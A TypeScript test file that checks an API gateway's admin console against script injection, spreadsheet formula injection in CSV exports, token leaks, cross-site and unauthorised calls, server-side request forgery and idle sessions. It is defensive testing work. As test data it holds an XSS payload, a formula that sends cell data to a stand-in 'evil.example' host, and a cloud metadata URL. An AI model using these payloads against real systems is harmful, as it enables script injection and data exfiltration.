/**
 * The threat: the pages that show what callers sent (paths, methods, hosts, answers) run it as script, or as a formula in a
 * spreadsheet; a token that an operator pastes to have a call explained or made comes back in a page, an address, a log or the audit
 * log; somebody who may only look makes calls, or another site has them made; a page left open keeps its operator signed in.
 */
import { describe, expect, it } from 'vitest';
import type { Administration } from '../../src/admin/administration.ts';
import { csvCell } from '../../src/console/pages/audit/export.ts';
import type { ErrorCode } from '../../src/model/failure.ts';
import { milliseconds } from '../../src/model/units.ts';
import { expectText, signedIn } from '../console/signed_in.ts';
import { PageClient } from '../http/page_client.ts';
import { ManualClock } from '../support/manual_clock.ts';

const SCRIPT = `"'><script>alert(1)</script><img src=x onerror=alert(1)>`;
const TOKEN = 'gha_canaryOfAToken00000000000000000000000000';

const calls: unknown[] = [];
/** A gateway in front of an upstream that sends everything back, and means ill. */
const gateway: Partial<Administration> = {
  live: {
    stats: async () => ({
      ...{ at: milliseconds(1), requests: [{ route: SCRIPT, status: 200, count: 1 }], durations: [] },
      ...{ refusals: [{ reason: SCRIPT, count: 1 }], cache: { hits: 0, misses: 0, entries: 0 } },
      ...{ issued: [{ grant: SCRIPT, count: 1 }], storeUp: true },
    }),
    refusals: async () => [
      {
        ...{ at: milliseconds(1), requestId: SCRIPT, method: SCRIPT, path: `/${SCRIPT}`, status: 401 },
        ...{ reason: 'missing_token' as ErrorCode, route: SCRIPT, client: SCRIPT, user: SCRIPT },
      },
    ],
    targets: async () => [{ route: SCRIPT, target: SCRIPT, healthy: false, failures: 1 }],
  },
  explain: async ({ target, host = '' }) => ({
    steps: [{ name: 'route', outcome: 'stopped', says: SCRIPT, change: `${SCRIPT} ${target} ${host}` }],
    verdict: {
      ...{ outcome: 'forwarded', status: 200, description: SCRIPT, route: SCRIPT, headers: [['X-User-Name', SCRIPT]] },
      upstream: { targets: [SCRIPT], path: `/${SCRIPT}` },
    },
  }),
  tryCall: async (call) => {
    calls.push(call);
    const sent = JSON.stringify(call);
    return {
      ...{ status: 200, truncated: true, duration: milliseconds(3) },
      headers: [
        ['Content-Type', 'text/html'],
        ['X-Echo', `${SCRIPT} ${sent}`],
      ],
      body: Buffer.from(`<html>${SCRIPT} ${sent}`),
    };
  },
  routes: [
    {
      ...{ name: SCRIPT, path: `/${SCRIPT}`, host: SCRIPT, methods: [SCRIPT], auth: 'required', scopes: [SCRIPT] },
      ...{ audience: SCRIPT, connections: [SCRIPT], dialect: SCRIPT, serveCached: milliseconds(0) },
      ...{ forwardAuthorization: false, requestHeaders: { set: { [SCRIPT]: 'x' }, remove: [SCRIPT] } },
      upstream: {
        ...{
          targets: [SCRIPT],
          connectTimeout: milliseconds(1),
          timeout: milliseconds(1),
          idleTimeout: milliseconds(1),
        },
      },
    },
  ],
};

describe('what callers and upstreams sent', () => {
  it('stays text on the pages that show it', async () => {
    const { browser, csrf, gate } = await signedIn({ more: gateway });
    const query = new URLSearchParams({ method: SCRIPT, target: `/${SCRIPT}`, host: SCRIPT });
    const pages = {
      '/': await browser.get('/'),
      '/routes': await browser.get('/routes'),
      search: await browser.get(`/routes?${new URLSearchParams({ search: `${SCRIPT} not` })}`),
      details: await browser.get(`/routes/details?${new URLSearchParams({ name: SCRIPT })}`),
      prefilled: await browser.get(`/explain?${query}`),
      refused: await browser.post('/explain', {
        csrf,
        method: SCRIPT,
        target: SCRIPT,
        host: SCRIPT,
        headers: SCRIPT,
        body: SCRIPT,
      }),
      explained: await browser.post('/explain', { csrf, method: 'GET', target: '/x' }),
      tried: await browser.post('/explain/try', {
        csrf,
        method: 'GET',
        target: '/x',
        headers: `X-A: ${SCRIPT}`,
        body: SCRIPT,
      }),
      filtered: await browser.get(
        `/audit?${new URLSearchParams({ actor: SCRIPT, action: SCRIPT, target: SCRIPT, from: SCRIPT })}`,
      ),
    };
    for (const [where, page] of Object.entries(pages)) expectText(page, where);
    const { audit, clock } = gate.administration;
    await audit.append({
      ...{ at: clock.now(), via: 'sign_in', action: SCRIPT, outcome: 'refused', address: SCRIPT, requestId: SCRIPT },
      actor: { kind: 'user', id: SCRIPT, name: SCRIPT },
      target: { kind: 'client', id: SCRIPT, name: SCRIPT },
      detail: { [SCRIPT]: SCRIPT },
    });
    expectText(await browser.get('/audit'), 'audit');
  });

  it('is data, not a page, where script of ours asks for it, and only for who is signed in', async () => {
    const { browser, gate } = await signedIn({ more: gateway });
    for (const path of ['/overview.json', '/routes.json']) {
      const answer = await browser.get(path);
      expect(answer.headers.get('content-type')).toBe('application/json');
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
      expect(answer.headers.get('cross-origin-resource-policy')).toBe('same-origin');
      expect((await new PageClient(gate.url).get(path)).status).toBe(303);
    }
  });

  it('is no formula in an export, whatever hides before it', async () => {
    const { browser, gate } = await signedIn({ more: gateway });
    const { audit, clock } = gate.administration;
    const evil = [
      '=HYPERLINK("http://evil.example/?x="&A1)',
      '+1',
      '-1',
      '@SUM(1)',
      '\t=1',
      '\r=1',
      ' =1',
      '\uFEFF=1',
      '＝1',
      'a"\r\n=1',
    ];
    for (const name of evil) {
      const actor = { kind: 'user', id: name, name } as const;
      await audit.append({
        at: clock.now(),
        actor,
        via: 'sign_in',
        action: 'user.sign_in',
        outcome: 'refused',
        address: name,
      });
    }
    const { text } = await browser.get('/audit/export?format=csv');
    for (const cell of text.matchAll(/(?:^|,|\r\n)"((?:[^"]|"")*)"/g))
      expect(cell[1]).not.toMatch(/^[\s\uFEFF]*[=+\-@＝]/);
    // A quote in a cell does not end it.
    expect(text).toContain('"a""\r\n=1"');
    expect(csvCell('=1')).toBe(`"'=1"`);
    expect(csvCell('plain')).toBe('"plain"');
  });
});

describe('a token that is pasted to have a call explained or made', () => {
  it('is in no page, address, log or audit event afterwards', async () => {
    const { browser, csrf, gate } = await signedIn({ more: gateway });
    const fields = {
      ...{ csrf, method: 'GET', token: TOKEN, host: 'api.example.com' },
      target: `/x?access_token=${TOKEN}&a=b`,
      headers: `X-Token: ${TOKEN}\r\nCookie: session=canary-of-a-cookie\r\nX-Plain: stays`,
      body: `{"token":"${TOKEN}"}`,
    };
    const pages = [
      await browser.post('/explain', fields),
      await browser.post('/explain/try', fields),
      await browser.post('/explain', { ...fields, method: 'not right' }),
      await browser.post('/explain/try', { ...fields, target: 'not right' }),
      await browser.post('/explain/try', { ...fields, headers: `Authorization: Bearer ${TOKEN}`, token: '', body: '' }),
      // A form that was sent too late is given back too.
      await browser.post('/explain/try', { ...fields, csrf: 'old' }),
    ];
    for (const page of pages) {
      expect(page.text).not.toContain('canary');
      expect(page.location).toBe('');
    }
    expect(pages[1]?.text).toContain('[hidden]');
    expect(pages[1]?.text).toContain('X-Plain: stays');
    const tried = (await gate.audited()).filter(({ action }) => action === 'routes.try');
    expect(tried.map(({ outcome }) => outcome)).toEqual(['done', 'refused', 'done']);
    expect(JSON.stringify([gate.reported, await gate.audited()])).not.toContain('canary');
    expect((await browser.get(`/explain?token=${TOKEN}&target=/x?token=${TOKEN}`)).text).not.toContain('canary');
  });
});

describe('calls that the console makes', () => {
  it('are made for administrators alone, and for no other site', async () => {
    const auditor = await signedIn({ more: gateway, username: 'auditor' });
    expect((await auditor.browser.get('/explain')).text).not.toContain('Try it');
    const before = calls.length;
    const fields = { method: 'DELETE', target: '/everything' };
    expect((await auditor.browser.post('/explain/try', { ...fields, csrf: auditor.csrf })).status).toBe(403);
    expect((await auditor.browser.post('/explain', { ...fields, csrf: auditor.csrf })).status).toBe(200);
    const admin = await signedIn({ more: gateway });
    const foreign = { 'sec-fetch-site': 'cross-site', origin: 'https://evil.example' };
    expect((await admin.browser.post('/explain/try', { ...fields, csrf: admin.csrf }, foreign)).status).toBe(403);
    expect((await admin.browser.post('/explain/try', { ...fields, csrf: auditor.csrf })).status).toBe(422);
    expect((await admin.browser.get('/explain/try?method=DELETE&target=/everything')).status).toBe(405);
    expect(calls).toHaveLength(before);
    expect((await admin.browser.post('/explain/try', { ...fields, csrf: admin.csrf })).status).toBe(200);
    expect(calls).toHaveLength(before + 1);
  });

  it('say nothing of where they go: only the path, never another server', async () => {
    const { browser, csrf } = await signedIn({ more: gateway });
    await browser.post('/explain/try', { csrf, method: 'GET', target: 'http://169.254.169.254/latest/meta-data' });
    expect(calls.at(-1)).toMatchObject({ target: '/latest/meta-data', host: '169.254.169.254' });
    const before = calls.length;
    for (const target of ['ftp://evil.example/', '//[', '@evil.example/', 'x']) {
      await browser.post('/explain/try', { csrf, method: 'GET', target, host: 'evil example' });
    }
    expect(calls).toHaveLength(before);
  });
});

describe('a page that is left open', () => {
  it('keeps nobody signed in by asking for numbers', async () => {
    const clock = new ManualClock();
    const { browser } = await signedIn({ more: gateway, clock });
    const minute = 60_000;
    for (let asked = 0; asked < 12; asked++) {
      clock.advance(milliseconds(2 * minute));
      expect((await browser.get('/overview.json')).status).toBe(200);
    }
    clock.advance(milliseconds(12 * minute));
    expect((await browser.get('/overview.json')).status).toBe(303);
    expect((await browser.get('/')).location).toContain('/sign-in');
  });
});
